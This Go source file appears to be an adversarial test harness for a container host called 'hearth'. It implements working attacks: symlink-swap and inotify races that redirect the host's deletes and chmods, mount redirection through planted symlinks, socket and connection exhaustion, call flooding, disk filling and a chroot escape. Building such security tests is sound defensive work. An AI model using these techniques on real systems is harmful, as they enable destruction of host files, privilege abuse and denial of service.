// Command attacker is what a hostile package's root runs inside its container, for the
// integration tests of issue 9: it swaps the paths the host acts on for symlinks, FIFOs and
// sockets, floods the host socket, and fills the disk. Each subcommand prints one line of
// JSON saying what it did; the tests decide from the host whether the host held.
//
// It is static (CGO_ENABLED=0) and runs from an image mounted in the container
// (/media/hearth/images/<image>/attacker) or from a subcontainer (/attacker), where
// "chroot-escape" first climbs out of the chroot to the container's root.
package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"hearth.dev/internal/dial"
	hostv1 "hearth.dev/proto/hearth/host/v1"
)

// Places inside the container.
const (
	media         = "/media/hearth"
	subcontainers = media + "/subcontainers"
)

// hostSockets are where host.sock may be, newest layout first.
var hostSockets = []string{media + "/host/host.sock", media + "/rpc/host.sock"}

var sockFlag string

func main() {
	flag.StringVar(&sockFlag, "sock", "", "the host socket (default: the first of "+strings.Join(hostSockets, ", ")+" that exists)")
	flag.Usage = func() {
		fmt.Fprintln(os.Stderr, "usage: attacker [--sock PATH] COMMAND [ARGS]; commands: "+strings.Join(commandNames(), ", "))
	}
	flag.Parse()
	if err := dispatch(flag.Args()); err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(1)
	}
}

var commands map[string]func(args []string) error

func init() {
	commands = map[string]func([]string) error{
		"whoami":              cmdWhoami,
		"ping":                cmdPing,
		"call":                cmdCall,
		"destroy-via-symlink": cmdDestroyViaSymlink,
		"plant":               cmdPlant,
		"unplant":             cmdUnplant,
		"conns":               cmdConns,
		"flood":               cmdFlood,
		"overlays":            cmdOverlays,
		"plant-overlay-names": cmdPlantOverlayNames,
		"fill":                cmdFill,
		"race-hostsock":       cmdRaceHostSock,
		"chroot-escape":       cmdChrootEscape,
	}
}

func commandNames() []string {
	var out []string
	for n := range commands {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

func dispatch(args []string) error {
	if len(args) == 0 {
		flag.Usage()
		return errors.New("no command")
	}
	fn, ok := commands[args[0]]
	if !ok {
		return fmt.Errorf("unknown command %q", args[0])
	}
	return fn(args[1:])
}

// emit prints v as one line of JSON.
func emit(v any) error {
	b, err := json.Marshal(v)
	if err != nil {
		return err
	}
	_, err = fmt.Println(string(b))
	return err
}

func hostSocket() (string, error) {
	if sockFlag != "" {
		return sockFlag, nil
	}
	for _, p := range hostSockets {
		if fi, err := os.Lstat(p); err == nil && fi.Mode().Type() == os.ModeSocket {
			return p, nil
		}
	}
	return "", fmt.Errorf("no host socket at %s", strings.Join(hostSockets, " or "))
}

// connect dials the host socket and makes one call, so that the connection exists before
// the attack changes the paths around it.
func connect() (hostv1.HostServiceClient, *grpc.ClientConn, error) {
	p, err := hostSocket()
	if err != nil {
		return nil, nil, err
	}
	conn, err := dial.Unix(p)
	if err != nil {
		return nil, nil, err
	}
	cl := hostv1.NewHostServiceClient(conn)
	// Paced: a flood run just before (another subtest) may have spent this container's
	// rate budget, and the host says when to retry.
	if err := paced(func(ctx context.Context) error {
		_, err := cl.GetIdentity(ctx, &hostv1.GetIdentityRequest{})
		return err
	}); err != nil {
		conn.Close()
		return nil, nil, fmt.Errorf("host socket %s: %w", p, err)
	}
	return cl, conn, nil
}

// result is one call's outcome.
type result struct {
	OK      bool   `json:"ok"`
	Code    string `json:"code,omitempty"`
	Message string `json:"message,omitempty"`
}

func outcome(err error) result {
	if err == nil {
		return result{OK: true}
	}
	s, _ := status.FromError(err)
	return result{Code: s.Code().String(), Message: s.Message()}
}

func callCtx() (context.Context, context.CancelFunc) {
	return context.WithTimeout(context.Background(), 30*time.Second)
}

func cmdWhoami(args []string) error {
	cl, conn, err := connect()
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := callCtx()
	defer cancel()
	resp, err := cl.GetIdentity(ctx, &hostv1.GetIdentityRequest{})
	if err != nil {
		return err
	}
	return emit(map[string]string{"container": resp.GetContainer()})
}

// cmdPing makes n rounds of GetIdentity and ListOverlays on a fresh connection each
// and reports the slowest, as a well-behaved package would see the host.
func cmdPing(args []string) error {
	fs := flag.NewFlagSet("ping", flag.ExitOnError)
	n := fs.Int("n", 3, "rounds")
	timeout := fs.Duration("timeout", 5*time.Second, "bound of one round")
	fs.Parse(args)
	p, err := hostSocket()
	if err != nil {
		return err
	}
	var worst time.Duration
	var failures []string
	for i := 0; i < *n; i++ {
		t0 := time.Now()
		err := func() error {
			conn, err := dial.Unix(p)
			if err != nil {
				return err
			}
			defer conn.Close()
			cl := hostv1.NewHostServiceClient(conn)
			ctx, cancel := context.WithTimeout(context.Background(), *timeout)
			defer cancel()
			if _, err := cl.GetIdentity(ctx, &hostv1.GetIdentityRequest{}); err != nil {
				return err
			}
			_, err = cl.ListOverlays(ctx, &hostv1.ListOverlaysRequest{})
			return err
		}()
		if d := time.Since(t0); d > worst {
			worst = d
		}
		if err != nil {
			failures = append(failures, err.Error())
			break
		}
	}
	return emit(map[string]any{"rounds": *n, "max_ms": worst.Milliseconds(), "failures": failures})
}

// cmdCall makes one host call: create IMAGE NAME, destroy NAME, list, bind VOLUME SUB PATH.
func cmdCall(args []string) error {
	if len(args) == 0 {
		return errors.New("call: create IMAGE NAME | destroy NAME | list | bind VOLUME SUB PATH")
	}
	cl, conn, err := connect()
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := callCtx()
	defer cancel()
	switch {
	case args[0] == "create" && len(args) == 3:
		_, err = cl.CreateOverlay(ctx, &hostv1.CreateOverlayRequest{Image: args[1], Name: args[2]})
	case args[0] == "destroy" && len(args) == 2:
		_, err = cl.DestroyOverlay(ctx, &hostv1.DestroyOverlayRequest{Name: args[1]})
	case args[0] == "list" && len(args) == 1:
		var resp *hostv1.ListOverlaysResponse
		if resp, err = cl.ListOverlays(ctx, &hostv1.ListOverlaysRequest{}); err == nil {
			var names []string
			for _, o := range resp.GetOverlays() {
				names = append(names, o.GetName())
			}
			return emit(map[string]any{"ok": true, "overlays": names})
		}
	case args[0] == "bind" && len(args) == 4:
		_, err = cl.BindVolume(ctx, &hostv1.BindVolumeRequest{Volume: args[1], Subcontainer: args[2], Path: args[3]})
	default:
		return fmt.Errorf("call %v: bad arguments", args)
	}
	return emit(outcome(err))
}

// cmdDestroyViaSymlink is S1: /media/hearth/subcontainers becomes a symlink to a host
// directory, and DestroyOverlay(name) is called, so that a host removing
// <subcontainers>/<name> by path removes <target>/<name>. With --swap-seconds the
// symlink flips between the host directory and the real one while calls run, for a host
// that checks the path before it acts.
func cmdDestroyViaSymlink(args []string) error {
	fs := flag.NewFlagSet("destroy-via-symlink", flag.ExitOnError)
	target := fs.String("target", "", "host directory the symlink points at")
	name := fs.String("name", "", "overlay name: the entry of target to remove")
	swap := fs.Duration("swap-seconds", 0, "flip the symlink for this long while calling (0: one call)")
	fs.Parse(args)
	if *target == "" || *name == "" {
		return errors.New("destroy-via-symlink: --target and --name are required")
	}
	cl, conn, err := connect()
	if err != nil {
		return err
	}
	defer conn.Close()
	const realName = ".subcontainers-real"
	real := filepath.Join(media, realName)
	if err := os.Rename(subcontainers, real); err != nil && !errors.Is(err, os.ErrNotExist) {
		return fmt.Errorf("move %s aside: %w", subcontainers, err)
	}
	if _, err := os.Lstat(real); errors.Is(err, os.ErrNotExist) {
		if err := os.Mkdir(real, 0o755); err != nil {
			return err
		}
	}
	defer func() {
		os.Remove(subcontainers)
		os.Rename(real, subcontainers)
	}()
	// Prepared symlinks, renamed over the path (an atomic swap).
	toHost, toReal := filepath.Join(media, ".atk-host"), filepath.Join(media, ".atk-real")
	link := func(tmp, to string) error {
		os.Remove(tmp)
		if err := os.Symlink(to, tmp); err != nil {
			return err
		}
		return os.Rename(tmp, subcontainers)
	}
	if err := link(toHost, *target); err != nil {
		return err
	}
	counts := map[string]int{}
	var first string
	call := func() {
		ctx, cancel := callCtx()
		defer cancel()
		r := outcome(func() error {
			_, err := cl.DestroyOverlay(ctx, &hostv1.DestroyOverlayRequest{Name: *name})
			return err
		}())
		if r.OK {
			counts["OK"]++
		} else {
			counts[r.Code]++
			if first == "" {
				first = r.Code + ": " + r.Message
			}
		}
	}
	if *swap == 0 {
		call()
		return emit(map[string]any{"calls": 1, "results": counts, "first_error": first})
	}
	stop := make(chan struct{})
	var flips atomic.Int64
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			if i%2 == 0 {
				link(toReal, realName)
			} else {
				link(toHost, *target)
			}
			flips.Add(1)
		}
	}()
	n := 0
	for deadline := time.Now().Add(*swap); time.Now().Before(deadline); n++ {
		call()
	}
	close(stop)
	wg.Wait()
	return emit(map[string]any{"calls": n, "flips": flips.Load(), "results": counts, "first_error": first})
}

// cmdPlant replaces path with a symlink, a FIFO, a regular file, a directory or a socket
// of ours (which accepts connections and never answers); what was there is kept at
// path.attacker-saved for unplant. A socket is held until stdin closes.
func cmdPlant(args []string) error {
	fs := flag.NewFlagSet("plant", flag.ExitOnError)
	symlink := fs.String("symlink", "", "plant a symlink to this target")
	fifo := fs.Bool("fifo", false, "plant a FIFO")
	file := fs.Bool("file", false, "plant a regular file")
	dir := fs.Bool("dir", false, "plant a directory")
	sock := fs.Bool("socket", false, "plant a listening socket that never answers, held until stdin closes")
	hold := fs.Duration("hold", 2*time.Minute, "longest time a socket is held")
	if len(args) == 0 {
		return errors.New("plant PATH --symlink T | --fifo | --file | --dir | --socket")
	}
	path := args[0]
	fs.Parse(args[1:])
	saved := path + ".attacker-saved"
	if _, err := os.Lstat(path); err == nil {
		if _, err := os.Lstat(saved); err == nil {
			return fmt.Errorf("%s already holds a saved entry: unplant first", saved)
		}
		if err := os.Rename(path, saved); err != nil {
			return fmt.Errorf("move %s aside: %w", path, err)
		}
	}
	var err error
	kind := ""
	switch {
	case *symlink != "":
		kind, err = "symlink", os.Symlink(*symlink, path)
	case *fifo:
		kind, err = "fifo", syscall.Mkfifo(path, 0o666)
	case *file:
		kind, err = "file", os.WriteFile(path, []byte("planted\n"), 0o666)
	case *dir:
		kind, err = "dir", os.Mkdir(path, 0o777)
	case *sock:
		kind = "socket"
		var l net.Listener
		if l, err = net.Listen("unix", path); err == nil {
			return holdSocket(l, path, *hold)
		}
	default:
		return errors.New("plant: say what to plant")
	}
	if err != nil {
		return fmt.Errorf("plant %s at %s: %w", kind, path, err)
	}
	return emit(map[string]string{"planted": kind, "path": path})
}

// holdSocket accepts connections and never answers, until stdin closes or hold passes.
func holdSocket(l net.Listener, path string, hold time.Duration) error {
	defer l.Close()
	var mu sync.Mutex
	var held []net.Conn
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			held = append(held, c)
			mu.Unlock()
		}
	}()
	if err := emit(map[string]string{"planted": "socket", "path": path}); err != nil {
		return err
	}
	waitStdin(hold)
	mu.Lock()
	defer mu.Unlock()
	for _, c := range held {
		c.Close()
	}
	return nil
}

// waitStdin returns when stdin reaches its end or d passes.
func waitStdin(d time.Duration) {
	done := make(chan struct{})
	go func() {
		io.Copy(io.Discard, os.Stdin)
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(d):
	}
}

// cmdUnplant removes what plant put at path and puts back what was there.
func cmdUnplant(args []string) error {
	if len(args) != 1 {
		return errors.New("unplant PATH")
	}
	path := args[0]
	saved := path + ".attacker-saved"
	if _, err := os.Lstat(saved); err != nil {
		return fmt.Errorf("nothing saved at %s: %w", saved, err)
	}
	if err := os.RemoveAll(path); err != nil {
		return err
	}
	if err := os.Rename(saved, path); err != nil {
		return err
	}
	return emit(map[string]string{"restored": path})
}

// http2Preface is what a gRPC client sends first: the connection preface and an empty
// SETTINGS frame. The server then holds a full transport for the connection.
var http2Preface = append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 0, 0, 0, 4, 0, 0, 0, 0, 0)

// cmdConns is S3/S4: open n connections to the host socket, each past the HTTP/2
// preface, hold them until stdin closes or --hold passes. Beyond what one process may
// open, helpers (this program again) hold the rest. It prints one line when all are
// open, and the connections' total.
func cmdConns(args []string) error {
	fs := flag.NewFlagSet("conns", flag.ExitOnError)
	hold := fs.Duration("hold", 2*time.Minute, "longest time the connections are held")
	per := fs.Int("per-process", 6000, "connections one process holds")
	open := fs.Duration("open-timeout", time.Minute, "how long to keep retrying connections the host has no room for")
	if len(args) == 0 {
		return errors.New("conns N [--hold D]")
	}
	n, err := strconv.Atoi(args[0])
	if err != nil {
		return fmt.Errorf("conns: %w", err)
	}
	fs.Parse(args[1:])
	p, err := hostSocket()
	if err != nil {
		return err
	}
	mine := min(n, *per)
	type helper struct {
		cmd   *exec.Cmd
		stdin io.WriteCloser
		out   *bufio.Reader
	}
	var helpers []helper
	defer func() {
		for _, h := range helpers {
			h.stdin.Close()
			h.cmd.Wait()
		}
	}()
	self, err := os.Executable()
	if err != nil {
		return err
	}
	for rest := n - mine; rest > 0; rest -= *per {
		k := min(rest, *per)
		cmd := exec.Command(self, "--sock", p, "conns", strconv.Itoa(k), "--per-process", strconv.Itoa(k), "--hold", hold.String(), "--open-timeout", open.String())
		cmd.Stderr = os.Stderr
		in, err := cmd.StdinPipe()
		if err != nil {
			return err
		}
		out, err := cmd.StdoutPipe()
		if err != nil {
			return err
		}
		if err := cmd.Start(); err != nil {
			return err
		}
		helpers = append(helpers, helper{cmd, in, bufio.NewReader(out)})
	}
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	errs := map[string]int{}
	// A full accept queue answers EAGAIN: wait for the host to take what is queued.
	deadline := time.Now().Add(*open)
	for i := 0; i < mine; i++ {
		c, err := net.DialTimeout("unix", p, 2*time.Second)
		if errors.Is(err, syscall.EAGAIN) && time.Now().Before(deadline) {
			time.Sleep(time.Millisecond)
			i--
			continue
		}
		if err == nil {
			_, err = c.Write(http2Preface)
			if err != nil {
				c.Close()
			}
		}
		if err != nil {
			errs[errnoName(err)]++
			continue
		}
		conns = append(conns, c)
	}
	opened := len(conns)
	for _, h := range helpers {
		line, err := h.out.ReadString('\n')
		if err != nil {
			errs["helper: "+err.Error()]++
			continue
		}
		var r struct {
			Opened int            `json:"opened"`
			Errors map[string]int `json:"errors"`
		}
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			errs["helper output: "+line]++
			continue
		}
		opened += r.Opened
		for k, v := range r.Errors {
			errs[k] += v
		}
	}
	if err := emit(map[string]any{"opened": opened, "errors": errs, "processes": 1 + len(helpers)}); err != nil {
		return err
	}
	waitStdin(*hold)
	return nil
}

func errnoName(err error) string {
	var en syscall.Errno
	if errors.As(err, &en) {
		return en.Error()
	}
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return "timeout"
	}
	return err.Error()
}

// cmdFlood calls the host as fast as it can for a while, on many streams of one
// connection, and counts what the host answered.
func cmdFlood(args []string) error {
	fs := flag.NewFlagSet("flood", flag.ExitOnError)
	d := fs.Duration("seconds", 5*time.Second, "how long")
	workers := fs.Int("workers", 32, "concurrent calls")
	which := fs.String("call", "list", "list, identity or create (of an existing overlay: --image, --name)")
	image := fs.String("image", "", "image for --call create")
	name := fs.String("name", "", "overlay for --call create")
	fs.Parse(args)
	cl, conn, err := connect()
	if err != nil {
		return err
	}
	defer conn.Close()
	var mu sync.Mutex
	counts := map[string]int{}
	var first string
	deadline := time.Now().Add(*d)
	var wg sync.WaitGroup
	for w := 0; w < *workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
				var err error
				switch *which {
				case "identity":
					_, err = cl.GetIdentity(ctx, &hostv1.GetIdentityRequest{})
				case "create":
					_, err = cl.CreateOverlay(ctx, &hostv1.CreateOverlayRequest{Image: *image, Name: *name})
				default:
					_, err = cl.ListOverlays(ctx, &hostv1.ListOverlaysRequest{})
				}
				cancel()
				code := status.Code(err).String()
				mu.Lock()
				counts[code]++
				if err != nil && status.Code(err) != codes.ResourceExhausted && first == "" {
					first = err.Error()
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	total := 0
	for _, c := range counts {
		total += c
	}
	return emit(map[string]any{"calls": total, "per_second": float64(total) / d.Seconds(), "codes": counts, "first_other_error": first})
}

// cmdOverlays is S5: create overlays until n or the first refusal, report how many the
// host allowed (and the most it listed at once), then destroy them with --destroy.
func cmdOverlays(args []string) error {
	fs := flag.NewFlagSet("overlays", flag.ExitOnError)
	image := fs.String("image", "", "image of the overlays")
	prefix := fs.String("prefix", "ov", "name prefix")
	destroy := fs.Bool("destroy", false, "destroy them afterwards")
	if len(args) == 0 {
		return errors.New("overlays N --image IMG")
	}
	n, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	fs.Parse(args[1:])
	cl, conn, err := connect()
	if err != nil {
		return err
	}
	defer conn.Close()
	var created []string
	var refusal result
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("%s-%d", *prefix, i)
		err := paced(func(ctx context.Context) error {
			_, err := cl.CreateOverlay(ctx, &hostv1.CreateOverlayRequest{Image: *image, Name: name})
			return err
		})
		if err != nil {
			refusal = outcome(err)
			break
		}
		created = append(created, name)
	}
	listed := -1
	ctx, cancel := callCtx()
	if resp, err := cl.ListOverlays(ctx, &hostv1.ListOverlaysRequest{}); err == nil {
		listed = len(resp.GetOverlays())
	}
	cancel()
	destroyErrs := 0
	if *destroy {
		for _, name := range created {
			if err := paced(func(ctx context.Context) error {
				_, err := cl.DestroyOverlay(ctx, &hostv1.DestroyOverlayRequest{Name: name})
				return err
			}); err != nil {
				destroyErrs++
			}
		}
	}
	return emit(map[string]any{"asked": n, "created": len(created), "listed": listed, "refusal": refusal, "destroy_errors": destroyErrs})
}

// paced makes a call as a client that respects the host's rate: a refusal for calling
// too often ("retry in ...") is retried after a pause; any other answer is returned.
func paced(call func(context.Context) error) error {
	for try := 0; ; try++ {
		ctx, cancel := callCtx()
		err := call(ctx)
		cancel()
		if err == nil || try >= 50 || status.Code(err) != codes.ResourceExhausted || !strings.Contains(status.Convert(err).Message(), "retry in") {
			return err
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// plantCase is one S6 name: subcontainers/<name> is a symlink to link before the call.
type plantCase struct {
	Name string `json:"name"`
	Link string `json:"link"`
	// Create and Destroy are the host's answers.
	Create  result `json:"create"`
	Destroy result `json:"destroy"`
	// Landed are mount points, other than subcontainers/<name>, that gained a mount at
	// create; Left are mount points that have more mounts after destroy than before.
	Landed []string `json:"landed"`
	Left   []string `json:"left"`
	// PlantError says why the symlink could not be planted (the host refused the setup);
	// the calls are made anyway.
	PlantError string `json:"plant_error,omitempty"`
}

// cmdPlantOverlayNames is S6: for each planted name, CreateOverlay then DestroyOverlay,
// and compare the container's mount table around them. A case that works leaves the
// container's /media/hearth broken for the next: run one per container with --case.
func cmdPlantOverlayNames(args []string) error {
	fs := flag.NewFlagSet("plant-overlay-names", flag.ExitOnError)
	image := fs.String("image", "", "image of the overlays")
	only := fs.String("case", "", "run only this case")
	fs.Parse(args)
	cl, conn, err := connect()
	if err != nil {
		return err
	}
	defer conn.Close()
	all := []plantCase{
		{Name: "p-self", Link: "."},
		{Name: "p-image", Link: "../images/" + *image},
		{Name: "p-image-abs", Link: "/images/" + *image},
		{Name: "p-rpc", Link: "../rpc"},
		{Name: "p-rpc-abs", Link: "/rpc"},
		{Name: "p-media", Link: ".."},
		{Name: "p-root", Link: "/"},
	}
	var cases []plantCase
	for _, c := range all {
		if *only == "" || c.Name == *only {
			cases = append(cases, c)
		}
	}
	if len(cases) == 0 {
		return fmt.Errorf("no case %q", *only)
	}
	for i := range cases {
		c := &cases[i]
		path := filepath.Join(subcontainers, c.Name)
		os.Remove(path)
		if err := os.Symlink(c.Link, path); err != nil {
			c.PlantError = err.Error()
		}
		before := mountCounts()
		ctx, cancel := callCtx()
		_, err := cl.CreateOverlay(ctx, &hostv1.CreateOverlayRequest{Image: *image, Name: c.Name})
		cancel()
		c.Create = outcome(err)
		own := filepath.Join(subcontainers, c.Name)
		for _, m := range gained(before, mountCounts()) {
			if m != own {
				c.Landed = append(c.Landed, m)
			}
		}
		ctx, cancel = callCtx()
		_, err = cl.DestroyOverlay(ctx, &hostv1.DestroyOverlayRequest{Name: c.Name})
		cancel()
		c.Destroy = outcome(err)
		c.Left = gained(before, mountCounts())
		if fi, err := os.Lstat(path); err == nil && fi.Mode().Type() == os.ModeSymlink {
			os.Remove(path)
		}
	}
	return emit(map[string]any{"cases": cases})
}

// mountCounts counts the mounts at each mount point this process sees.
func mountCounts() map[string]int {
	out := map[string]int{}
	data, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return out
	}
	for _, line := range strings.Split(string(data), "\n") {
		if f := strings.Fields(line); len(f) > 4 {
			out[f[4]]++
		}
	}
	return out
}

func gained(before, after map[string]int) []string {
	var out []string
	for m, n := range after {
		if n > before[m] {
			out = append(out, m)
		}
	}
	sort.Strings(out)
	return out
}

// cmdFill is S7: write to path until the first error or --max bytes.
func cmdFill(args []string) error {
	fs := flag.NewFlagSet("fill", flag.ExitOnError)
	maxBytes := fs.Int64("max", 256<<20, "stop after this many bytes")
	if len(args) == 0 {
		return errors.New("fill PATH [--max BYTES]")
	}
	path := args[0]
	fs.Parse(args[1:])
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	buf := make([]byte, 1<<20)
	for i := range buf {
		buf[i] = byte(i * 7)
	}
	var written int64
	var werr error
	for written < *maxBytes {
		n, err := f.Write(buf[:min(int64(len(buf)), *maxBytes-written)])
		written += int64(n)
		if err != nil {
			werr = err
			break
		}
	}
	if err := f.Sync(); err != nil && werr == nil {
		werr = err
	}
	if err := f.Close(); err != nil && werr == nil {
		werr = err
	}
	out := map[string]any{"bytes": written}
	if werr != nil {
		out["error"] = werr.Error()
		out["errno"] = errnoName(werr)
	}
	return emit(out)
}

// cmdRaceHostSock is S9: watch the host socket's directory and, the moment the host
// creates an entry there (the socket under a temporary name, before it fixes its mode and
// owner by path), rename a symlink to target over it. With --final, host.sock itself is
// swapped too once it appears. It prints a line once it watches, and one at the end
// (after --seconds or when stdin closes).
func cmdRaceHostSock(args []string) error {
	fs := flag.NewFlagSet("race-hostsock", flag.ExitOnError)
	target := fs.String("target", "", "host file the host should chmod instead")
	d := fs.Duration("seconds", 10*time.Second, "how long")
	final := fs.Bool("final", false, "also swap host.sock itself")
	fs.Parse(args)
	if *target == "" {
		return errors.New("race-hostsock: --target is required")
	}
	sock := sockFlag
	if sock == "" {
		for _, p := range hostSockets {
			if _, err := os.Stat(filepath.Dir(p)); err == nil {
				sock = p
				break
			}
		}
	}
	dir, base := filepath.Dir(sock), filepath.Base(sock)
	fd, err := syscall.InotifyInit1(syscall.IN_CLOEXEC | syscall.IN_NONBLOCK)
	if err != nil {
		return err
	}
	in := os.NewFile(uintptr(fd), "inotify")
	defer in.Close()
	if _, err := syscall.InotifyAddWatch(fd, dir, syscall.IN_CREATE|syscall.IN_MOVED_TO); err != nil {
		return fmt.Errorf("watch %s: %w", dir, err)
	}
	// A pool of ready symlinks: one rename per event.
	next := 0
	prepare := func() (string, error) {
		next++
		p := filepath.Join(dir, fmt.Sprintf(".atk-%d", next))
		os.Remove(p)
		return p, os.Symlink(*target, p)
	}
	ready, err := prepare()
	if err != nil {
		// The host refused the setup: nothing can be raced. Say so, and last as long as asked.
		if err := emit(map[string]string{"watching": dir, "refused": err.Error()}); err != nil {
			return err
		}
		waitStdin(*d)
		return emit(map[string]any{"events": 0, "swaps": 0, "refused": err.Error()})
	}
	defer func() {
		os.Remove(ready)
	}()
	if err := emit(map[string]string{"watching": dir}); err != nil {
		return err
	}
	events, swaps := 0, 0
	var swapped []string
	mine := map[string]int{}
	buf := make([]byte, 64*1024)
	end := time.Now().Add(*d)
	closed := make(chan struct{})
	go func() { waitStdin(*d); close(closed) }()
	for time.Now().Before(end) {
		select {
		case <-closed:
			end = time.Now()
			continue
		default:
		}
		in.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
		n, err := in.Read(buf)
		if err != nil {
			if errors.Is(err, os.ErrDeadlineExceeded) {
				continue
			}
			return err
		}
		for off := 0; off+syscall.SizeofInotifyEvent <= n; {
			ev := (*syscall.InotifyEvent)(unsafe.Pointer(&buf[off]))
			nameBytes := buf[off+syscall.SizeofInotifyEvent : off+syscall.SizeofInotifyEvent+int(ev.Len)]
			off += syscall.SizeofInotifyEvent + int(ev.Len)
			name := strings.TrimRight(string(nameBytes), "\x00")
			events++
			// Our own renames come back as IN_MOVED_TO: skip one per swap.
			if ev.Mask&syscall.IN_MOVED_TO != 0 && mine[name] > 0 {
				mine[name]--
				continue
			}
			ours := strings.HasPrefix(name, ".atk-") || strings.HasSuffix(name, ".attacker-saved")
			temp := strings.HasPrefix(name, base+".") || (strings.HasPrefix(name, ".s") && !ours)
			if ours || !(temp || (*final && name == base)) {
				continue
			}
			if err := os.Rename(ready, filepath.Join(dir, name)); err == nil {
				mine[name]++
				swaps++
				if len(swapped) < 20 {
					swapped = append(swapped, name)
				}
			}
			if ready, err = prepare(); err != nil {
				return err
			}
		}
	}
	return emit(map[string]any{"events": events, "swaps": swaps, "swapped": swapped})
}

// cmdChrootEscape leaves the chroot a subcontainer runs in, as its root can (a chroot
// into a directory below, then ".." past the old root), and runs the rest of the
// arguments as a command from the container's root.
func cmdChrootEscape(args []string) error {
	if len(args) > 0 && args[0] == "--" {
		args = args[1:]
	}
	dir := fmt.Sprintf("/.escape-%d", os.Getpid())
	if err := os.Mkdir(dir, 0o700); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	if err := syscall.Chroot(dir); err != nil {
		return fmt.Errorf("chroot %s: %w", dir, err)
	}
	for i := 0; i < 64; i++ {
		if err := syscall.Chdir(".."); err != nil {
			return err
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return err
	}
	if err := syscall.Chdir("/"); err != nil {
		return err
	}
	if _, err := os.Stat(media); err != nil {
		return fmt.Errorf("escaped, but %s is not there: %w", media, err)
	}
	if len(args) == 0 {
		return emit(map[string]string{"escaped": "/"})
	}
	return dispatch(args)
}
